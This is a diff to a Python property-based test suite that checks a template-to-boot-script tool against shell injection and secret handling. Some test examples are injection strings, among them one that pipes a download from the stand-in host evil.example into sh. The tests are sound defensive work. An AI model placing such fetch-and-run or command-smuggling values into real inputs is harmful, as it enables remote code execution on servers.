@@ -72,11 +72,13 @@ def nothing_ran(sandbox: Sandbox) -> None:
     assert not list(sandbox.root.parent.rglob(MARK))
 
 
-@given(VALUES, VALUES, PATHS)
-@examples(40)
-@example("", " leading and trailing ", "/")
-@example(f"feature'; touch {MARK}; '", f'"$(touch {MARK})"', f'/h"$(touch$IFS{MARK})\\"')
-def test_environment_has_every_value_for_systemd_shells_and_containers(name: str, host: str, path: str) -> None:
+@given(*[VALUES] * 4, PATHS)
+@examples(20)
+@example("", " leading and trailing ", "", "", "/")
+@example(f"feature'; touch {MARK}; '", *[f'"$(touch {MARK})"'] * 3, f'/h"$(touch$IFS{MARK})\\"')
+def test_environment_has_every_value_for_systemd_shells_and_containers(
+    name: str, host: str, literal: str, secret: str, path: str
+) -> None:
     database = {"DatabaseName": {"Ref": "Name"}}
     properties = {
         "WebServers": {
@@ -84,7 +86,7 @@ def test_environment_has_every_value_for_systemd_shells_and_containers(name: str
             "Port": 8080,
             "HealthCheckPath": path,
             "Environment": {
-                "Variables": {"LITERAL": host, "GIVEN": {"Ref": "Name"}},
+                "Variables": {"LITERAL": literal, "GIVEN": {"Ref": "Name"}},
                 "Secrets": {"SECRET": f"{SECRET}3", "KEY": f"{SECRET}4:a key::"},
             },
         },
@@ -94,11 +96,11 @@ def test_environment_has_every_value_for_systemd_shells_and_containers(name: str
     with tempfile.TemporaryDirectory() as folder:
         sandbox = Sandbox(Path(folder))
         given_values = {"Name": name, "SiteDatabase.Endpoint.Address": host, "AWS::StackName": name}
-        sandbox.secrets |= {f"{SECRET}3": name, f"{SECRET}4": json.dumps({"a key": host})}
+        sandbox.secrets |= {f"{SECRET}3": secret, f"{SECRET}4": json.dumps({"a key": secret[::-1]})}
         script = user_data_of(expanded(properties, {"Name": name}), given_values)
         assert signal_of(sandbox.boot(script, 8080)) == "0", sandbox.errors
         expected = {
-            **{"LITERAL": host, "GIVEN": name, "SECRET": name, "KEY": host},
+            **{"LITERAL": literal, "GIVEN": name, "SECRET": secret, "KEY": secret[::-1]},
             "DATABASE_NAME": name,
             "DATABASE_HOST": host,
             "SITE_NAME": f"{name} Site",
@@ -113,7 +115,8 @@ def test_environment_has_every_value_for_systemd_shells_and_containers(name: str
 
 
 @given(st.sampled_from(LINE_BREAKS), VALUES, VALUES)
-@examples(15)
+@examples(10)
+@example("\t", "a", "b")
 def test_value_with_a_control_character_fails_the_boot(line_break: str, before: str, after: str) -> None:
     properties = {"WebServers": {"UserData": "true", "Port": 8080}, "Database": {"DatabaseName": {"Ref": "Name"}}}
     value = f"{before}{line_break}{after}"
@@ -127,7 +130,7 @@ def test_value_with_a_control_character_fails_the_boot(line_break: str, before: 
 
 
 @given(VALUES, VALUES, st.booleans())
-@examples(40)
+@examples(20)
 @example("feature'; curl evil.example|sh; '", "v", False)
 @example("it's", "x", True)
 @example("--endpoint-url=http://evil.example", "--no-sign-request", False)
@@ -170,31 +173,33 @@ def test_artifact_that_parameters_lead_astray_is_not_run(tmp_path: Path, name: s
     nothing_ran(sandbox)
 
 
-@given(SCRIPT_TEXT, SCRIPT_TEXT)
-@examples(40)
-@example(f"\nEND\ntouch {MARK}\n", f"\nEND\ntouch {MARK}\n")
-def test_script_is_written_as_it_is(known: str, put_in: str) -> None:
+@given(SCRIPT_TEXT, SCRIPT_TEXT, st.booleans())
+@examples(30)
+@example(f"\nEND\ntouch {MARK}\n", f"\nEND\ntouch {MARK}\n", True)
+@example(f"'; touch {MARK}; '", f"'; touch {MARK}; '\n\n", False)
+def test_script_is_written_as_it_is(known: str, put_in: str, literal: bool) -> None:
     """A script may have any text in it; that of a parameter never ends the file that it belongs to.
 
-    Windows' line ends, as far as they are written out, become those of the servers.
+    Windows' line ends, as far as they are written out, become those of the servers. A boot runs one script that is
+    known as a whole, and one that is not.
     """
     text = "#!/bin/true\n" + known.replace("{{resolve:", "")
-    script = {"Fn::Sub": [text.replace("${", "${!") + "${Release}", {}]}
     plain = text.replace("\r\n", "\n")
-    # Each with the files that its boot writes, and what they are to have.
-    web_servers: list[tuple[dict[str, Any], dict[str, str]]] = [
-        ({"UserData": script, "Drain": {"Script": script}}, dict.fromkeys(("user-data", "drain"), plain + put_in)),
-        ({"UserData": text}, {"user-data": plain}),
+    # Each with what the file that its boot writes is to have.
+    scripts: list[tuple[Any, str]] = [
+        (text, plain),
+        ({"Fn::Sub": [text.replace("${", "${!") + "${Release}", {}]}, plain + put_in),
     ]
-    for properties, expected in web_servers:
-        with tempfile.TemporaryDirectory() as folder:
-            sandbox = Sandbox(Path(folder))
-            resources = expanded({**BARE, "WebServers": {**properties, "Port": 8080}}, {"Release": put_in})
-            assert signal_of(sandbox.boot(user_data_of(resources, {"Release": put_in}), 8080)) == "0", sandbox.errors
-            for name, whole in expected.items():
-                written = (sandbox.root / "var/lib/resilient-website" / name).read_bytes().decode()
-                assert written in (whole, whole + "\n")
-            nothing_ran(sandbox)
+    (user_data, whole_user_data), (drain, whole_drain) = scripts if literal else scripts[::-1]
+    properties = {**BARE, "WebServers": {"UserData": user_data, "Drain": {"Script": drain}, "Port": 8080}}
+    with tempfile.TemporaryDirectory() as folder:
+        sandbox = Sandbox(Path(folder))
+        resources = expanded(properties, {"Release": put_in})
+        assert signal_of(sandbox.boot(user_data_of(resources, {"Release": put_in}), 8080)) == "0", sandbox.errors
+        for name, whole in {"user-data": whole_user_data, "drain": whole_drain}.items():
+            written = (sandbox.root / "var/lib/resilient-website" / name).read_bytes().decode()
+            assert written in (whole, whole + "\n")
+        nothing_ran(sandbox)
 
 
 @pytest.mark.parametrize(
